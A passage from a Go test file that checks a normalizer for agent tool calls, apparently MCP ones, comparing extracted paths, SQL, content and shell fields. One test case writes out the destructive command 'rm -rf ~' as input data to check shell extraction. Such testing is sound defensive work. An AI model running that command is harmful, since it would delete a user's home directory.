			c := tool.Normalize(act(t, tt.action), cwd, home)
			if c.Known != tt.known || c.Class != tt.class || c.Like != tt.like {
				t.Errorf("Known %v Class %q Like %q, want %v %q %q", c.Known, c.Class, c.Like, tt.known, tt.class, tt.like)
			}
			if c.Server == "" {
				t.Error("no server")
			}
			if tt.paths != nil {
				eq(t, "Paths", c.Paths, tt.paths)
			}
			if tt.sql != nil {
				eq(t, "SQL", c.SQL, tt.sql)
			}
			if tt.content != nil {
				eq(t, "Content", c.Content, tt.content)
			}
			if len(c.Malformed) > 0 {
				t.Errorf("malformed %q", c.Malformed)
			}
		})
	}
	// the shell command of an unknown server's bash is read once
	c := tool.Normalize(act(t, `{"tool":"mcp__term__bash","arguments":{"command":"rm -rf ~"}}`), cwd, home)
	eq(t, "Shell", c.Shell, []string{"rm -rf ~"})
}
